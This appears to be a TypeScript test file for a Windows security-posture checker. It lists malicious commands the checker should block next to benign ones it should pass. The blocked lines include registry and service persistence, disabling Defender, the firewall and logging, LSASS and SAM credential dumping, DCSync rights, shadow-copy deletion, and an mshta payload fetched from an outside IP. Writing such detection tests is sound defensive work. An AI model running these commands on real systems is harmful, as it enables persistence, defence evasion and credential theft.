import { type PostureCase, runCases } from "./_posture_testing.ts";

const CASES: PostureCase[] = [
  {
    id: "win.run_key_payload",
    block: [
      `reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v OneDriveSync /t REG_SZ /d "powershell -w hidden -enc SQBFAFgA" /f`,
      `Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name upd -Value "$env:APPDATA\\upd\\upd.exe"`,
      // A WebDAV path over SSL (\\host@SSL\\DavWWWRoot\\…) pushed to every computer by a GPO.
      `Set-GPRegistryValue -Name 'Printers' -Key 'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -ValueName 'map' -Type String -Value '\\\\deploy.example-print.net@SSL\\DavWWWRoot\\x\\map.exe /silent'`,
    ],
    pass: [
      `reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run`,
      `reg delete HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /f`,
      `reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Teams /d "C:\\Program Files\\Teams\\Teams.exe" /f`,
    ],
  },
  {
    id: "win.service_payload",
    block: [
      `sc create WinUpdSvc binPath= "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgA" start= auto`,
      `New-Service -Name sync -BinaryPathName "C:\\Users\\Public\\sync.exe" -StartupType Automatic`,
    ],
    pass: [
      `sc create nginx binPath= "C:\\nginx\\nginx.exe" start= auto`,
      "sc query WinUpdSvc",
    ],
  },
  {
    id: "win.service_account_command",
    block: [
      `sc.exe config Spooler binPath= "cmd /c net localgroup administradores CONTOSO\\becario /add"`,
      `sc \\\\FS01 create upd binPath= "C:\\Windows\\System32\\net.exe user helpdesk2 P@ss123! /add" type= own`,
      `schtasks /create /tn Sync /ru SYSTEM /sc once /st 00:00 /tr "cmd.exe /c net localgroup Administratoren svc_temp /add"`,
      `Set-Service -Name PrinterHelper -BinaryPathName 'powershell -c Add-LocalGroupMember -Group Administrators -Member lab\\kim'`,
    ],
    pass: [
      `sc.exe config PrintQueueHelper binPath= "C:\\Program Files\\PQH\\pqhsvc.exe"`,
      `net localgroup Administrators CONTOSO\\it-ops /add`,
      `schtasks /create /tn Backup /ru SYSTEM /sc daily /st 02:00 /tr "C:\\Tools\\backup.exe --all"`,
    ],
  },
  {
    id: "win.schtask_payload",
    block: [
      `schtasks /create /tn "MicrosoftEdgeUpd" /tr "mshta http://198.51.100.8/p.hta" /sc onlogon /ru SYSTEM`,
    ],
    pass: [
      `schtasks /create /tn "Nightly backup" /tr "C:\\Tools\\backup.cmd" /sc daily /st 02:00`,
      "schtasks /query /fo LIST /v",
    ],
  },
  {
    id: "win.wmi_subscription",
    block: [
      `$c = Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer -Arguments @{Name='u';CommandLineTemplate='powershell -enc AAA'}`,
    ],
    pass: [
      "Get-WmiObject -Namespace root\\subscription -Class CommandLineEventConsumer",
      "Get-CimInstance -Namespace root/subscription -ClassName __FilterToConsumerBinding | Remove-CimInstance",
    ],
  },
  {
    id: "win.ifeo_debugger",
    block: [
      `reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe" /v Debugger /t REG_SZ /d "C:\\Windows\\System32\\cmd.exe" /f`,
    ],
    pass: [
      `reg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe"`,
    ],
  },
  {
    id: "win.silent_process_exit",
    block: [
      `reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\notepad.exe" /v MonitorProcess /d "C:\\ProgramData\\m.exe" /f`,
    ],
  },
  {
    id: "win.accessibility_replaced",
    block: ["copy /y C:\\Windows\\System32\\cmd.exe C:\\Windows\\System32\\utilman.exe"],
    pass: ["sfc /scanfile=C:\\Windows\\System32\\utilman.exe"],
  },
  {
    id: "win.winlogon_userinit",
    block: [
      `reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Userinit /d "C:\\Windows\\system32\\userinit.exe,C:\\ProgramData\\svc.exe" /f`,
      `reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Shell /d "explorer.exe, C:\\ProgramData\\svc.exe" /f`,
    ],
    pass: [
      `reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Userinit /d "C:\\Windows\\system32\\userinit.exe," /f`,
      `reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Shell /d "explorer.exe" /f`,
    ],
  },
  {
    id: "win.appinit_dlls",
    block: [
      `reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Windows" /v AppInit_DLLs /d "C:\\ProgramData\\hk.dll" /f`,
    ],
    pass: [
      `reg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Windows" /v AppInit_DLLs`,
    ],
  },
  {
    id: "win.com_hijack",
    block: [
      `reg add "HKCU\\Software\\Classes\\CLSID\\{b5f8350b-0548-48b1-a6ee-88bd00b4a5e7}\\InprocServer32" /ve /d "C:\\Users\\a\\AppData\\Local\\c.dll" /f`,
    ],
    pass: [`reg query "HKCR\\CLSID\\{b5f8350b-0548-48b1-a6ee-88bd00b4a5e7}\\InprocServer32"`],
  },
  {
    id: "win.uac_bypass_handler",
    block: [
      `New-Item "HKCU:\\Software\\Classes\\ms-settings\\shell\\open\\command" -Force; New-ItemProperty -Path "HKCU:\\Software\\Classes\\ms-settings\\shell\\open\\command" -Name DelegateExecute -Value ""`,
    ],
    pass: [`Remove-Item "HKCU:\\Software\\Classes\\ms-settings\\shell\\open\\command" -Recurse`],
  },
  {
    id: "win.startup_folder",
    block: [
      `copy C:\\Users\\Public\\u.vbs "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.vbs"`,
    ],
    pass: [`dir "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"`],
  },
  {
    id: "win.lsa_packages",
    block: [
      `reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa" /v "Security Packages" /t REG_MULTI_SZ /d "kerberos\\0msv1_0\\0mimilib" /f`,
      // a custom package appended after the built-ins (PowerShell, Notification Packages)
      `Set-ItemProperty -Path HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Lsa -Name "Notification Packages" -Value @('scecli','pwfilt')`,
      `reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v "Authentication Packages" /t REG_MULTI_SZ /d "msv1_0\\0evilap" /f`,
    ],
    pass: [
      `reg query "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa" /v "Security Packages"`,
      // the default list written back (incident response after removing a rogue package)
      `reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa" /v "Authentication Packages" /t REG_MULTI_SZ /d "msv1_0" /f`,
      `Set-ItemProperty -Path HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Lsa -Name "Security Packages" -Value @('kerberos','msv1_0','schannel','wdigest','tspkg','pku2u')`,
      `reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa" /v "Security Packages" /t REG_MULTI_SZ /d "" /f`,
    ],
  },
  {
    id: "win.hidden_account",
    block: ["net user support$ P@ssw0rd!23 /add"],
    pass: ["net user support P@ssw0rd!23 /add", "net user"],
  },
  {
    id: "win.everyone_admins",
    block: [
      `net localgroup administrators "Domain Users" /add`,
      "net localgroup Administrators Everyone /add",
    ],
    pass: ["net localgroup administrators maria /add", "net localgroup administrators"],
  },
  {
    id: "win.dsrm_logon",
    block: [
      `reg add "HKLM\\System\\CurrentControlSet\\Control\\Lsa" /v DsrmAdminLogonBehavior /t REG_DWORD /d 2 /f`,
    ],
    pass: [`reg query "HKLM\\System\\CurrentControlSet\\Control\\Lsa" /v DsrmAdminLogonBehavior`],
  },
  {
    id: "win.defender_exclusion_broad",
    block: [
      `Add-MpPreference -ExclusionPath "C:\\"`,
      `Add-MpPreference -ExclusionPath "$env:TEMP"`,
      "Add-MpPreference -ExclusionExtension exe",
      "Add-MpPreference -ExclusionProcess mshta.exe",
    ],
    pass: [
      `Add-MpPreference -ExclusionPath "D:\\build\\obj"`,
      `Remove-MpPreference -ExclusionPath "C:\\"`,
      "Get-MpPreference | Select-Object ExclusionPath",
    ],
  },
  {
    id: "win.defender_exclusion_reg",
    block: [
      `reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Exclusions\\Paths" /v "C:\\ProgramData" /t REG_DWORD /d 0 /f`,
    ],
    pass: [`reg query "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Exclusions\\Paths"`],
  },
  {
    id: "win.defender_off_pref",
    block: [
      "Set-MpPreference -DisableBehaviorMonitoring $true -DisableRealtimeMonitoring 1",
      "Set-MpPreference -MAPSReporting 0 -SubmitSamplesConsent 2",
    ],
    pass: ["Set-MpPreference -DisableRealtimeMonitoring $false", "Get-MpComputerStatus"],
  },
  {
    id: "win.defender_off_reg",
    block: [
      `reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f`,
    ],
    pass: [
      `reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 0 /f`,
    ],
  },
  {
    id: "win.defender_service_stopped",
    block: ["sc stop WinDefend", "sc config WinDefend start= disabled"],
    pass: ["sc query WinDefend", "sc config WinDefend start= auto"],
  },
  {
    id: "win.smartscreen_off",
    block: [
      `reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\System" /v EnableSmartScreen /t REG_DWORD /d 0 /f`,
    ],
    pass: [
      `reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\System" /v EnableSmartScreen /t REG_DWORD /d 1 /f`,
    ],
  },
  {
    id: "win.amsi_off_reg",
    block: [
      `reg add "HKCU\\Software\\Microsoft\\Windows Script\\Settings" /v AmsiEnable /t REG_DWORD /d 0 /f`,
    ],
  },
  {
    id: "win.firewall_off",
    block: [
      "netsh advfirewall set currentprofile state off",
      "Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False",
    ],
    pass: [
      "netsh advfirewall set allprofiles state on",
      "netsh advfirewall show currentprofile state",
    ],
  },
  {
    id: "win.firewall_admin_port_any",
    block: [
      `netsh advfirewall firewall add rule name="rdp" dir=in action=allow protocol=TCP localport=3389`,
      "New-NetFirewallRule -DisplayName smb -Direction Inbound -LocalPort 445 -Protocol TCP -Action Allow",
    ],
    pass: [
      `netsh advfirewall firewall add rule name="rdp" dir=in action=allow protocol=TCP localport=3389 remoteip=10.20.0.0/16`,
      "New-NetFirewallRule -DisplayName web -Direction Inbound -LocalPort 443 -Protocol TCP -Action Allow",
    ],
  },
  {
    id: "win.auditpol_disable",
    block: [`auditpol /set /category:"Logon/Logoff" /success:disable /failure:disable`],
    pass: [
      `auditpol /get /category:*`,
      `auditpol /set /subcategory:"Logon" /success:enable /failure:enable`,
    ],
  },
  {
    id: "win.event_log_cleared",
    block: ["wevtutil cl Security", "Clear-EventLog -LogName Security,System"],
    pass: [
      "wevtutil qe Security /c:20 /f:text",
      "Get-WinEvent -FilterHashtable @{LogName='Security'; Id=4624} -MaxEvents 20",
    ],
  },
  {
    id: "win.ps_logging_off",
    block: [
      `reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging" /v EnableScriptBlockLogging /t REG_DWORD /d 0 /f`,
    ],
    pass: [
      `reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging" /v EnableScriptBlockLogging /t REG_DWORD /d 1 /f`,
    ],
  },
  {
    id: "win.etw_session_stopped",
    block: [`logman stop "EventLog-Security" -ets`],
    pass: ["logman query -ets"],
  },
  {
    id: "win.sysmon_removed",
    block: ["sysmon64.exe -u force"],
    pass: ["sysmon64.exe -c sysmonconfig.xml"],
  },
  {
    id: "win.wdigest_on",
    block: [
      `reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /d 1 /t REG_DWORD /f`,
    ],
    pass: [
      `reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /d 0 /t REG_DWORD /f`,
    ],
  },
  {
    id: "win.lsa_protection_off",
    block: [
      `reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v RunAsPPL /d 0 /t REG_DWORD /f`,
      `reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v LmCompatibilityLevel /t REG_DWORD /d 1 /f`,
    ],
    pass: [
      `reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v RunAsPPL /t REG_DWORD /d 1 /f`,
      `reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v LmCompatibilityLevel /t REG_DWORD /d 5 /f`,
    ],
  },
  {
    id: "win.hive_saved",
    block: ["reg save HKLM\\SAM C:\\Users\\Public\\s.hiv"],
    pass: ["reg save HKCU\\Software\\Contoso C:\\backup\\contoso.hiv"],
  },
  {
    id: "win.lsass_dump",
    block: [
      "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 612 C:\\Windows\\Temp\\l.dmp full",
      "procdump64.exe -accepteula -ma lsass.exe lsass.dmp",
    ],
    pass: ["procdump64.exe -ma w3wp.exe w3wp.dmp", "Get-Process lsass"],
  },
  {
    id: "win.wifi_keys",
    block: [
      "netsh wlan show profile name=* key=clear",
      "netsh wlan export profile key=clear folder=C:\\Users\\Public\\wl",
    ],
    pass: [
      "netsh wlan show profiles",
      `netsh wlan show profile name="Office" key=clear`,
      `netsh wlan export profile name="Office" folder=C:\\backup`,
    ],
  },
  {
    id: "win.dcsync_rights",
    block: [
      `Add-DomainObjectAcl -TargetIdentity "DC=corp,DC=local" -PrincipalIdentity helpdesk01 -Rights DCSync`,
    ],
    pass: [`Get-DomainObjectAcl -Identity "DC=corp,DC=local" -ResolveGUIDs`],
  },
  {
    id: "win.kerberos_weakened",
    block: [
      "Set-ADAccountControl -Identity svc_sql -DoesNotRequirePreAuth $true",
      "Set-ADComputer -Identity APP01 -TrustedForDelegation $true",
    ],
    pass: [
      "Set-ADAccountControl -Identity svc_sql -DoesNotRequirePreAuth $false",
      "Get-ADUser svc_sql -Properties DoesNotRequirePreAuth",
    ],
  },
  {
    id: "win.rdp_nla_off",
    block: [
      `reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp" /v UserAuthentication /d 0 /t REG_DWORD /f`,
    ],
    pass: [
      `reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp" /v UserAuthentication /t REG_DWORD /d 1 /f`,
    ],
  },
  {
    id: "win.rdp_shadow_no_consent",
    block: [
      `reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\Terminal Services" /v Shadow /t REG_DWORD /d 2 /f`,
    ],
    pass: [
      `reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\Terminal Services" /v Shadow /t REG_DWORD /d 1 /f`,
    ],
  },
  {
    id: "win.uac_off",
    block: [
      `reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v EnableLUA /t REG_DWORD /d 0 /f`,
      `reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v LocalAccountTokenFilterPolicy /t REG_DWORD /d 1 /f`,
    ],
    pass: [
      `reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v EnableLUA /t REG_DWORD /d 1 /f`,
      `reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v ConsentPromptBehaviorAdmin`,
    ],
  },
  {
    id: "win.smb_weakened",
    block: [
      "Set-SmbServerConfiguration -EnableSMB1Protocol $true -Force",
      "Set-SmbServerConfiguration -RequireSecuritySignature $false",
    ],
    pass: [
      "Set-SmbServerConfiguration -EnableSMB1Protocol $false -Force",
      "Get-SmbServerConfiguration",
    ],
  },
  {
    id: "win.winrm_insecure",
    block: [
      `winrm set winrm/config/service @{AllowUnencrypted="true"}`,
      `Set-Item WSMan:\\localhost\\Client\\TrustedHosts -Value "*" -Force`,
    ],
    pass: [
      `winrm get winrm/config/service`,
      `Set-Item WSMan:\\localhost\\Client\\TrustedHosts -Value "srv01.corp.local"`,
    ],
  },
  {
    id: "win.test_signing",
    block: ["bcdedit /set testsigning on", "bcdedit /set {current} recoveryenabled No"],
    pass: ["bcdedit /enum", "bcdedit /set testsigning off"],
  },
  {
    id: "win.shadow_copies_deleted",
    block: ["vssadmin.exe delete shadows /for=C: /all /quiet", "wmic shadowcopy delete"],
    pass: ["vssadmin list shadows", "vssadmin create shadow /for=C:"],
  },
  {
    id: "win.update_disabled",
    block: ["sc config wuauserv start= disabled"],
    pass: ["sc config wuauserv start= auto", "sc query wuauserv"],
  },
  {
    id: "win.office_macros_on",
    block: [
      `reg add "HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security" /v VBAWarnings /t REG_DWORD /d 1 /f`,
    ],
    pass: [
      `reg add "HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security" /v VBAWarnings /t REG_DWORD /d 4 /f`,
    ],
  },
  {
    id: "win.acl_everyone_full",
    block: [
      `icacls "C:\\Program Files\\Contoso\\svc.exe" /grant Everyone:F`,
      `icacls C:\\Windows\\System32\\Tasks /grant "Authenticated Users":(OI)(CI)M /T`,
    ],
    pass: [
      `icacls "C:\\Program Files\\Contoso\\svc.exe"`,
      `icacls D:\\reports /grant "CORP\\finance":(OI)(CI)R`,
      `icacls D:\\public /grant Everyone:R`,
    ],
  },
  {
    id: "win.service_acl_everyone",
    block: [`sc sdset Spooler "D:(A;;CCLCSWRPWPDTLOCRRC;;;WD)"`],
    pass: [`sc sdshow Spooler`],
  },
  {
    id: "win.portproxy_any",
    block: [
      "netsh interface portproxy add v4tov4 listenport=8443 listenaddress=0.0.0.0 connectport=3389 connectaddress=10.0.5.20",
    ],
    pass: ["netsh interface portproxy show v4tov4"],
  },
];

runCases("windows", CASES);

runCases("windows code", [
  {
    id: "win.uac_off",
    block: [
      `import winreg\nk = winreg.CreateKey(winreg.HKEY_LOCAL_MACHINE, r"SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System")\nwinreg.SetValueEx(k, "EnableLUA", 0, winreg.REG_DWORD, 0)`,
    ],
    pass: [
      `import winreg\nk = winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, r"SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System")\nv, _ = winreg.QueryValueEx(k, "EnableLUA")\nprint("UAC on" if v else "UAC off")`,
    ],
  },
  {
    id: "win.wdigest_on",
    block: [
      `k = winreg.CreateKey(winreg.HKEY_LOCAL_MACHINE, r"SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest")\nwinreg.SetValueEx(k, "UseLogonCredential", 0, winreg.REG_DWORD, 1)`,
    ],
  },
]);
